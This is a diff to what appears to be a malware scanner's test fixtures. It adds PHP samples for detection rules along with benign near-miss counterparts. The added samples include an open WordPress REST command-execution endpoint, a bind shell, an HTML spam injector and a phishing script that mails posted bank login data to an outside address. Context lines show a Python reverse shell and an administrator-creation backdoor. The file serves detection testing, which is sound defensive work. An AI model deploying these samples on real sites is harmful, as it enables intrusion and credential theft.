@@ -75,6 +75,10 @@ VARIANTS: dict[str, str] = {
     "include_dot_jpg": "<?php\ninclude_once(dirname(__FILE__) . '/../../uploads/.thumb-cache.jpg');\n",
     "revshell_python_exec": '<?php\n$ip = $_GET[\'i\']; $port = $_GET[\'p\'];\nexec("python -c \'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\\"$ip\\",$port));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call([\\"/bin/sh\\",\\"-i\\"])\' > /dev/null 2>&1 &");\n',
     "wp_admin_header_creds": "<?php\nadd_action('init', function () {\n    if (!empty($_SERVER['HTTP_X_WPU']) && !username_exists($_SERVER['HTTP_X_WPU'])) {\n        $id = wp_insert_user(array('user_login' => $_SERVER['HTTP_X_WPU'], 'user_pass' => $_SERVER['HTTP_X_WPP'], 'role' => 'administrator'));\n    }\n});\n",
+    "wp_rest_route_shell": "<?php\nadd_action('rest_api_init', function () {\n    register_rest_route('wp/v2', '/sys-health', array(\n        'methods' => 'POST',\n        'callback' => function ($r) { return array('o' => shell_exec($r['c'])); },\n        'permission_callback' => '__return_true',\n    ));\n});\n",
+    "phish_print_r_post_mail": "<?php\n$body = print_r($_POST, true) . \"\\nIP: \" . $_SERVER['REMOTE_ADDR'] . \"\\nUA: \" . $_SERVER['HTTP_USER_AGENT'];\nmail('rezults.box@gmail.com', 'Chase Login ' . $_SERVER['REMOTE_ADDR'], $body);\nheader('Location: https://www.chase.com/');\n",
+    "reinfect_html_links": "<?php\n$spam = '<div style=\"position:absolute;left:-3000px\"><a href=\"https://cheap-pills.top\">viagra</a></div>';\nforeach (glob('*/*.html') as $f) {\n    $c = file_get_contents($f);\n    if (strpos($c, 'cheap-pills') === false) { file_put_contents($f, str_replace('</html>', $spam . '</html>', $c)); }\n}\n",
+    "bindshell_stream_server": "<?php\n$srv = stream_socket_server('tcp://0.0.0.0:4444', $errno, $errstr);\nwhile ($c = stream_socket_accept($srv, -1)) {\n    while (($line = fgets($c)) !== false) { fwrite($c, (string) shell_exec($line)); }\n    fclose($c);\n}\n",
     "phish_bank_card_and_password": "<?php\n$cliente = $_POST['cliente'];\n$cpf = $_POST['cpf'];\n$senha = $_POST['senha_internet'];\n$cartao = $_POST['num_cartao'];\n$validade = $_POST['validade'];\n$cvv = $_POST['cvv'];\ninclude 'enviar.php';\nheader('Location: aguarde.php');\n",
 }
 
@@ -142,6 +146,10 @@ HITS: list[tuple[str, str]] = [
     ("SPAMGEAR_HOSTINF_IncludeIconFile", "include_dot_jpg"),
     ("SPAMGEAR_HOSTINF_ScriptedReverseShell", "revshell_python_exec"),
     ("SPAMGEAR_HOSTINF_WpAdminFixedCreds", "wp_admin_header_creds"),
+    ("SPAMGEAR_HOSTINF_OpenRestRouteSink", "wp_rest_route_shell"),
+    ("SPAMGEAR_HOSTINF_PostDumpMailedRedirect", "phish_print_r_post_mail"),
+    ("SPAMGEAR_HOSTINF_ScriptTagFileInjector", "reinfect_html_links"),
+    ("SPAMGEAR_HOSTINF_SocketCommandLoop", "bindshell_stream_server"),
     ("SPAMGEAR_HOSTINF_CvvAndPasswordCapture", "phish_bank_card_and_password"),
 ]
 
@@ -338,6 +346,18 @@ NEAR_MISSES: list[tuple[str, str]] = [
     (
         "SPAMGEAR_HOSTINF_WpAdminFixedCreds",
         "<?php\n$login = sanitize_user( $_SERVER['HTTP_X_REMOTE_USER'] );\nif ( $login && ! username_exists( $login ) && current_user_can( 'create_users' ) ) {\n\twp_insert_user( array( 'user_login' => $login, 'user_pass' => wp_generate_password(), 'role' => 'subscriber' ) );\n}\n",
+    ),
+    (
+        "SPAMGEAR_HOSTINF_OpenRestRouteSink",
+        "<?php\nadd_action('rest_api_init', function () {\n    register_rest_route('myplugin/v1', '/ping', array(\n        'methods' => 'GET',\n        'callback' => function ($r) { return array('pong' => sanitize_text_field($r['msg'])); },\n        'permission_callback' => '__return_true',\n    ));\n});\n",
+    ),
+    (
+        "SPAMGEAR_HOSTINF_PostDumpMailedRedirect",
+        "<?php\n$body = print_r($_POST, true) . \"\\nIP: \" . $_SERVER['REMOTE_ADDR'];\nmail('office@example.org', 'Contact form', $body);\nheader('Location: thank-you.html');\n",
+    ),
+    (
+        "SPAMGEAR_HOSTINF_ScriptTagFileInjector",
+        "<?php\nforeach (glob($tpl_dir . '/*.html') as $f) {\n    $c = file_get_contents($f);\n    file_put_contents($f, str_replace('</body>', $footer_html . '</body>', $c));\n}\n",
     ),
 ]
 
